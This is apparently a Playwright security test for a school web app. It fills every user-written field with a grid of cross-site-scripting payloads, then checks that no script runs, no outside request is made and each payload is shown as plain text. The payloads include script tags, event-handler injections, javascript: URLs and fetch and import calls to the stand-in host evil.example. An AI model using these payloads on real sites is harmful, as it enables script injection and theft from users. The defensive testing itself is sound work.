import { createHash } from 'node:crypto';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect, test, type Page } from '@playwright/test';
import { routes } from '../scripts/routes.ts';
import { rules } from '../src/lib/server/access.ts';
import { addMember, assign } from '../src/lib/server/fixture.ts';
import { open, type Store } from '../src/lib/server/store/open.ts';
import { addressOf } from './addresses.ts';
import { hydrated } from './hydrated.ts';
import { startServer, type OwnServer } from './ownserver.ts';
import { makeSchool, type Account, type School } from './school.ts';

/*
 * Scripts in every text that people write, on every page of a class: none runs, each is shown as the
 * text that it is, and no page asks anybody else for anything.
 */

const run = 'window.ran=1';
const templates = [
	(word: string) => `<script>${word}</script>`,
	(word: string) => `"><script>${word}</script>`,
	(word: string) => `'><img src=x onerror=${word}>`,
	(word: string) => `</title><svg onload=${word}>`,
	(word: string) => `</textarea><img src=x onerror="${word}">`,
	(word: string) => `</script><script>${word}</script>`,
	(word: string) => `<!--><script>${word}</script>-->`,
	(word: string) => `\${${word}}{{${word}}}{@html ${word}}`,
	(word: string) => `javascript:${word}`,
	(word: string) => `[x](javascript:${word})`,
	(word: string) => `" autofocus onfocus=${word} x="`,
	(word: string) => `' style=animation-name:x onanimationstart=${word} '`,
	(word: string) => `<iframe srcdoc="&lt;script>parent.${word}&lt;/script>">`,
	(word: string) => `<a href="javascript:${word}">x</a>`,
	(word: string) => `<base href="//evil.example/"><script src=/x></script>${word}`,
	(word: string) => `<math><mtext></p><img src=x onerror=${word}>`,
	(word: string) => `<form action=//evil.example><button formaction=javascript:${word}>x`,
	(word: string) => `<link rel=stylesheet href=//evil.example/x.css>${word}`,
	(word: string) => `&lt;script&gt;${word}&lt;/script&gt;`,
	(word: string) => `<object data="javascript:${word}"><embed src="javascript:${word}">`
];
const words = [
	run,
	`${run};//`,
	`(${run})`,
	'alert(1)',
	'top.ran=1',
	'self["ran"]=1',
	'eval("ran=1")',
	'fetch("//evil.example")',
	'import("//evil.example")',
	'parent.ran=1'
];
const scripts = words.flatMap((word) => templates.map((template) => template(word)));
/** The code of an invitation to help in the class. */
const invited = 'invited';
/** As many at once as a page may list. */
const perRound = 40;
const rounds = Array.from({ length: scripts.length / perRound }, (_, round) =>
	scripts.slice(round * perRound, (round + 1) * perRound)
);

let folder: string;
let store: Store;
let server: OwnServer;

test.beforeAll(async () => {
	folder = mkdtempSync(join(tmpdir(), 'grounds-payloads-'));
	const url = join(folder, 'grounds.db');
	server = await startServer({ DATABASE_URL: url });
	store = await open(url);
});
test.afterAll(async () => {
	await server.stop();
	await store.close();
	rmSync(folder, { recursive: true, force: true });
});

/** A class in which every text is one of these. */
async function write(school: School, payloads: readonly string[], round: number) {
	const { db } = store;
	const { own, people } = school;
	const one = (place: number) => payloads[(place + round) % payloads.length] ?? '';
	const room = { id: own.class, teacher: people['teacher'] ?? '' };
	for (const [place, name] of payloads.entries()) {
		await addMember(db, own.class, name, { note: one(place + 1) });
		await assign(db, room, { title: name });
		await db
			.insertInto('group')
			.values({ class: own.class, id: `g${place}`, name })
			.execute();
	}
	const inClass = { class: own.class };
	await db
		.updateTable('class')
		.set({ name: one(0) })
		.where('id', '=', own.class)
		.execute();
	await db
		.updateTable('user')
		.set({ name: one(1) })
		.execute();
	await db
		.updateTable('member')
		.set({ name: one(2), note: one(3) })
		.where('user', '=', own.member)
		.execute();
	await db
		.updateTable('override')
		.set({ reason: one(4) })
		.where('class', '=', own.class)
		.execute();
	await db
		.updateTable('assignment')
		.set({ title: one(5) })
		.where('id', '=', own.assignment)
		.execute();
	const reserved = { module: 'engine', user: room.teacher, created_at: new Date().toISOString() };
	await db
		.insertInto('reservation')
		.values({ ...inClass, ...reserved })
		.execute();
	const invitation = { role: 'assistant', email: one(7), created_by: room.teacher } as const;
	const times = { created_at: reserved.created_at, expires_at: '2999-01-01T00:00:00.000Z' };
	const code_hash = createHash('sha256').update(invited).digest('hex');
	await db
		.insertInto('staff_invitation')
		.values({ ...inClass, id: 'invitation', code_hash, ...invitation, ...times })
		.execute();
	const disagreement = { type: 'disagree', item: 'stop', reason: one(6) };
	const place = { ...inClass, attempt: own.attempt, session: null };
	const at = new Date().toISOString();
	const stored = { body: JSON.stringify(disagreement), client_at: at, server_at: at };
	await db
		.insertInto('event')
		.values({ ...place, seq: 1, client_id: 'd', ...stored })
		.execute();
}

const pages = routes().filter(({ id, isPage }) => isPage && rules[id]?.read?.startsWith('class '));
const personal = ['/classes', '/account'];

/** Whom the pages are shown to, and what they see. */
const seen = (account: Account, { own }: School) => [
	...personal,
	...(account === 'administrator' ? ['/admin', `/classes/invitation/${invited}`] : []),
	...pages
		.filter(
			({ id }) =>
				account !== 'administrator' && (account === 'teacher' || rules[id]?.read === 'class see')
		)
		.map((route) => addressOf(route, own))
];

/** Everything that tells that something ran, or went elsewhere. */
function overhear(page: Page): string[] {
	const heard: string[] = [];
	page.on('dialog', (dialog) => {
		heard.push(`a dialog: ${dialog.message()}`);
		void dialog.dismiss();
	});
	page.on('request', (request) => {
		const url = request.url();
		if (!url.startsWith(`${server.origin}/`) && !/^(data|blob):/.test(url))
			heard.push(`asked ${url}`);
	});
	page.on('console', (message) => {
		if (/content security policy/i.test(message.text())) heard.push(message.text());
	});
	page.on('pageerror', (error) => heard.push(String(error)));
	return heard;
}

for (const account of ['teacher', 'student', 'administrator'] as const) {
	for (const [round, payloads] of rounds.entries()) {
		const which = `${round * perRound + 1} to ${round * perRound + payloads.length}`;
		test(`scripts ${which} of ${scripts.length} in every field, as ${account}`, async ({
			browser
		}) => {
			const school = await makeSchool(store.db, server.origin);
			await write(school, payloads, round);
			const context = await browser.newContext({ serviceWorkers: 'block' });
			const [name = '', value = ''] = school.cookies[account].split(/=(.*)/);
			await context.addCookies([{ name, value, url: server.origin }]);
			const page = await context.newPage();
			const heard = overhear(page);
			let shown = '';
			for (const path of seen(account, school)) {
				const reply = await page.goto(server.origin + path, { waitUntil: 'load' });
				expect(reply?.status(), path).toBe(200);
				await hydrated(page);
				expect(await page.evaluate('window.ran'), `${path}: ran`).toBeUndefined();
				expect(heard, path).toEqual([]);
				shown += await page.locator('body').innerText();
			}
			if (account === 'teacher') {
				const plain = (text: string) => text.replace(/\s+/g, '').toLowerCase();
				const missing = payloads.filter((one) => !plain(shown).includes(plain(one)));
				expect(missing, 'shown as text').toEqual([]);
			}
			await context.close();
		});
	}
}
